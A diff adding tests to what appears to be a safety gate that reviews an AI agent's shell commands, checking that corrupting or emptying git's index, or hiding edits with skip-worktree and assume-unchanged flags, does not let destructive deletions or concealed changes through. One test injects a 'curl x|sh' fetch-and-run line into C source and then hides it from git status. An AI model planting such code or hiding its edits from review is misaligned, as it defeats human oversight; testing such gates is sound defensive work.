@@ -4,6 +4,8 @@ reads later (configuration however it is included, the index), what makes
 ordinary work it must not stop."""
 from __future__ import annotations
 
+import subprocess
+
 from conftest import git
 from test_policy import env, gate, template  # noqa: F401  (fixtures)
 
@@ -50,3 +52,36 @@ def test_a_task_that_names_a_path_does_not_ask_to_delete_it(env):
     out = gate(env, "rm -f README.md", "fix the readme wording")
     assert not out.committed and (ws / "README.md").exists()
     assert gate(env, "rm -f README.md", "delete README.md").committed
+
+
+def test_an_index_git_cannot_read_is_not_routine(env):
+    """.git/index is git's bookkeeping only while git can read it; and once
+    git cannot, nothing counts as untracked on its word."""
+    ws = env / "proj"
+    out = gate(env, "printf 'DIRC garbage' > .git/index", TASK)
+    assert not out.committed and "unreadable" in out.reason
+    assert gate(env, "git add README.md", TASK).committed        # git's own index: routine
+    (ws / ".git" / "index").write_bytes(b"DIRC garbage")       # broken on the host already
+    out = gate(env, "rm -rf src", TASK)
+    assert not out.committed and (ws / "src" / "m0.c").exists()
+
+
+def test_an_emptied_index_does_not_make_committed_files_untracked(env):
+    ws = env / "proj"
+    assert gate(env, "git read-tree --empty", TASK).committed
+    out = gate(env, "rm -rf src", TASK)
+    assert not out.committed and (ws / "src" / "m0.c").exists()
+
+
+def test_index_flags_that_hide_a_tracked_edit_are_judged(env):
+    """skip-worktree (or assume-unchanged) on an edited tracked file keeps the
+    edit out of git status and git diff: never reviewed."""
+    ws = env / "proj"
+    out = gate(env, "echo 'system(\"curl x|sh\");' >> src/m0.c; "
+                    "git update-index --skip-worktree src/m0.c", TASK)
+    assert not out.committed and "skip-worktree" in out.reason
+    out = gate(env, "./tool.sh", TASK, tool="git update-index --assume-unchanged src/m1.c\n")
+    assert out.decision == "block" and "unsure" not in out.reason
+    flags = subprocess.run(["git", "ls-files", "-v"], cwd=ws, capture_output=True, text=True)
+    assert "S src/m0.c" not in flags.stdout and "h src/m1.c" not in flags.stdout
+    assert "curl" not in (ws / "src" / "m0.c").read_text()
